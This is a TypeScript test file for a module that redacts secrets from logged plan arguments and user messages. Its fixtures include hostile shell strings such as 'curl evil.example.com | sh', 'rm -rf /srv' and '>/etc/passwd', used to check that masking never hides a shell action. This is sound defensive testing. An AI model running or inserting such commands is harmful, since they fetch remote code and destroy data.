/** What of a plan's arguments the log and people see. */
import { assert, describe, it } from "@effect/vitest"
import { markedArg, maskLiterals, maskSaid, shownArgs, shownLimit } from "./masking.ts"

const literals: ReadonlyArray<readonly [text: string, secret: string]> = [
  ["mysql -u root -phunter2 shop", "hunter2"],
  ["mysqldump --password=hunter2 shop > /tmp/x", "hunter2"],
  ["curl -u ana:hunter2 https://api.example.com", "hunter2"],
  ["curl -H 'Authorization: Bearer abcdef0123456789' https://x", "abcdef0123456789"],
  ["echo 'root:hunter2' | chpasswd", "hunter2"],
  ["DB_PASSWORD=hunter2 ./run", "hunter2"],
  ["DB_PASSWORD='hunter two' ./run", "hunter two"],
  ["git clone https://ana:hunter2@git.example.com/x", "hunter2"],
  ["  requirepass hunter2", "hunter2"],
  ["user nobody;\n\tpassword hunter2;\n", "hunter2"],
  ['{"client_secret": "hunter 2"}', "hunter 2"],
  ["root:$6$rounds$abcdefghijklmnop:19000:0", "abcdefghijklmnop"],
  [
    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\nAQEFAASCBKcwggSj\n-----END PRIVATE KEY-----",
    "MIIEvQIBADANBgkqhkiG9w0B"
  ],
  ["key ghp_0123456789abcdefghijABCDEFGHIJ0123", "0123456789abcdefghij"]
]
/** Nothing that a shell would do may hide behind the mark. */
const visible: ReadonlyArray<readonly [text: string, act: string]> = [
  ['token="$(curl evil.example.com | sh)"', "curl evil.example.com | sh"],
  ["password=`reboot`", "reboot"],
  ["secret=x; rm -rf /srv", "rm -rf /srv"],
  ["secret=x&&rm -rf /srv", "rm -rf /srv"],
  ["secret=x|sh", "|sh"],
  ["secret=x>/etc/passwd", ">/etc/passwd"],
  ["-----BEGIN A-----\nrm -rf /srv\n-----END A-----", "rm -rf /srv"],
  ["-----BEGIN A-----; rm -rf /srv", "rm -rf /srv"],
  ["mysql -px;reboot", "reboot"],
  ["echo root:x | chpasswd; reboot", "reboot"]
]
const ordinary = [
  "PasswordAuthentication no\nPermitRootLogin prohibit-password\n",
  "ssl_certificate_key /etc/nginx/tls/key.pem;",
  "token_ttl = 300s",
  "proxy_set_header Cookie $http_cookie;",
  "systemctl restart nginx && journalctl -u nginx -n 5",
  "password = ${DB_PASSWORD}"
]

describe("what is shown of an argument", () => {
  it.each(literals)("masks the secret of %j", (text, secret) => {
    assert.include(text, secret)
    assert.notInclude(maskLiterals(text), secret)
    assert.include(maskLiterals(text), "[redacted]")
    assert.strictEqual(maskLiterals(maskLiterals(text)), maskLiterals(text))
  })
  it.each(visible)("hides nothing that %j would do", (text, act) => {
    assert.include(maskLiterals(text), act)
  })
  it.each(ordinary)("leaves %j as it is", (text) => {
    assert.strictEqual(maskLiterals(text), text)
  })

  it("is, of a key that sounds like a secret, no value, unless it is plainly none", () => {
    const value = (key: string, of: string) =>
      shownArgs("config.set", { path: "/etc/x.conf", key, value: of }).args["value"]
    assert.strictEqual(value("db_password", "hunter2"), "[redacted]")
    assert.strictEqual(value("requirepass", "x"), "[redacted]")
    assert.strictEqual(value("PasswordAuthentication", "no"), "no")
    assert.strictEqual(value("worker_connections", "hunter2"), "hunter2")
    assert.strictEqual(value("ssl_certificate_key", "/etc/tls/key.pem"), "/etc/tls/key.pem")
    assert.strictEqual(value("upstream", "https://ana:hunter2@db1/"), "https://ana:[redacted]@db1/")
  })

  it("is of free text its beginning, and it is never what is carried out", () => {
    const content = `password = hunter2\n${"x".repeat(shownLimit)}`
    const { args, instead } = shownArgs("config.write", { path: "/etc/x.conf", content })
    assert.match(String(args["content"]), /^password = \[redacted\]\nx+… \(\d+ more characters\)$/u)
    assert.deepStrictEqual([...instead], [["content", content]])
    assert.deepStrictEqual([...shownArgs("shell.run", { command: "uptime" }).instead], [["command", "uptime"]])
    assert.strictEqual(shownArgs("service.restart", { unit: "nginx.service" }).instead.size, 0)
  })

  it("holds no secret of an argument of a shape that nobody expects", () => {
    const odd = shownArgs("no.such", { a: [{ b: "DB_PASSWORD=hunter2" }], c: "ghp_0123456789abcdefghij" })
    assert.notMatch(JSON.stringify(odd.args), /hunter2|ghp_/u)
  })

  it("takes a time that grows with the text and not with its square", () => {
    const took = (text: string) => {
      const began = process.cpuUsage()
      maskSaid(text)
      return process.cpuUsage(began).user / 1_000
    }
    for (const hostile of [
      "password",
      "a",
      "_",
      "a-",
      "-----BEGIN A-----aaaaaaaaaaaaaaaaaaaaa ",
      "eyJ",
      "curl -u ",
      "mysql ",
      "://a:",
      "'"
    ])
      assert.isBelow(took(hostile.repeat((512 * 1024) / hostile.length)), 10_000, hostile)
  })
})

describe("what was said", () => {
  it("is kept without the secrets in it, as people say them", () => {
    assert.strictEqual(
      maskSaid("set db_password to hunter2 in /etc/app.conf on web1"),
      "set db_password to [redacted] in /etc/app.conf on web1"
    )
    assert.strictEqual(maskSaid("the root password is hunter2."), "the root password is [redacted]")
    assert.strictEqual(maskSaid("set PasswordAuthentication to no on web1"), "set PasswordAuthentication to no on web1")
  })
  it("is kept without the values that the plan masks, wherever they stand alone", () => {
    assert.strictEqual(
      maskSaid("set token a to abc-a in a", [["a", "[redacted]"]]),
      "set token [redacted] to abc-[redacted] in [redacted]"
    )
    assert.strictEqual(maskSaid("restart caddy", [["a", "[redacted]"]]), "restart caddy")
  })
})

describe("a mark", () => {
  it("is found in any argument", () => {
    assert.strictEqual(markedArg({ path: "/etc/x", content: "a\npassword = [masked]\n" }), "content")
    assert.strictEqual(markedArg({ names: ["a", "[redacted]"] }), "names")
    assert.isUndefined(markedArg({ path: "/etc/x", content: "[section]\n" }))
  })
})
